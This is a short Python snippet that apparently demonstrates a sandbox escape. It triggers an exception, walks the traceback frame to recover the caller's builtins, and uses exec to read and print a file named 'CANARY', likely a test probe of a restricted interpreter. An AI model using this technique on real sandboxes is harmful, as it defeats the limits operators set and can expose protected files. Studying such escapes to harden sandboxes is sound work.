def climb():
    try:
        1 / 0
    except Exception as e:
        return e.__traceback__.tb_frame.f_back.f_builtins

climb()["exec"]("print(open('CANARY').read())")
